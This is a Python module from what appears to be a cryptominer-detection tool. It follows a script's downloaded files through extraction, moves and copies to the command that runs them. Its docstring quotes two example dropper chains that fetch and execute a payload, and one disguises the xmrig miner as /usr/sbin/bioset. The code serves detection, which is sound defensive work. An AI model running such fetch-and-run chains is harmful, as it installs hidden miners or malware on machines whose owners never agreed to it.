"""What a script downloaded and where it put it, to see when it runs what it fetched.

A dropper is rarely one pipe: ``wget -O /tmp/k URL; chmod +x /tmp/k; /tmp/k``, ``curl URL |
tar xz -C /tmp; mv /tmp/xmrig /usr/sbin/bioset; /usr/sbin/bioset``. :class:`Fetches` follows
the file from the download (saved under a name, extracted into a directory, moved or copied)
to the command that runs it. Bounded: at most :data:`MAX_SAVED` names are tracked.
"""

from __future__ import annotations

from minerguard.signatures.shell import commands

MAX_SAVED = 64

Origin = tuple[tuple[str, ...], tuple[str, ...]]
"""Where a file came from: the URLs, and the names of what was fetched."""


class Fetches:
    """The files a script fetched so far, by name, and the last download it extracted."""

    __slots__ = ("extracted", "into", "saved")

    def __init__(self) -> None:
        self.saved: dict[str, Origin] = {}
        self.extracted: Origin | None = None
        self.into = ""
        """Where the last download was extracted (``tar -C DIR``); "" for the working dir."""

    def __bool__(self) -> bool:
        return bool(self.saved) or self.extracted is not None

    def saved_by(self, found: commands.Download) -> None:
        """A download saved to files (``curl -o``, ``wget URL``)."""
        for target in found.targets:
            key = commands.basename(target)
            if key and len(self.saved) < MAX_SAVED:
                self.saved[key] = (found.urls, (*found.names, key))

    def extract(self, argv: list[str], piped: Origin | None) -> None:
        """``tar``/``unzip`` of a download piped in (``piped``) or saved before."""
        into = commands.extract_into(argv)
        if piped is not None:
            self.extracted, self.into = piped, into
            return
        for word in argv[1:]:
            saved = self.saved.get(commands.basename(word))
            if saved is not None and commands.ARCHIVE.search(word):
                self.extracted, self.into = saved, into
                return

    def origin(self, path: str) -> Origin | None:
        """The download ``path`` came from: saved under its name, or extracted from one."""
        saved = self.saved.get(commands.basename(path))
        if saved is not None or self.extracted is None:
            return saved
        inside = bool(self.into) and path.startswith(self.into + "/")
        relative = "/" in path and not path.startswith("/")
        return self.extracted if inside or relative else None

    def ran(self, path: str, run: str) -> tuple[Origin, str] | None:
        """Where ``path``, being run, came from and how it got here; None if not fetched."""
        found = self.origin(path)
        if found is None:
            return None
        key = commands.basename(path)
        if key not in self.saved:
            run = "downloaded, extracted, then run"
        urls, names = found
        return (urls, names if key in names else (*names, key)), run

    def moved(self, argv: list[str]) -> None:
        """``mv``/``cp``/``install`` of a fetched file: the copy is fetched too."""
        operands = commands.operands(argv)
        if len(operands) < 2 or len(self.saved) >= MAX_SAVED:
            return
        for source in operands[:-1]:
            found = self.origin(source)
            if found is not None:
                self.saved[commands.basename(operands[-1])] = found
                return
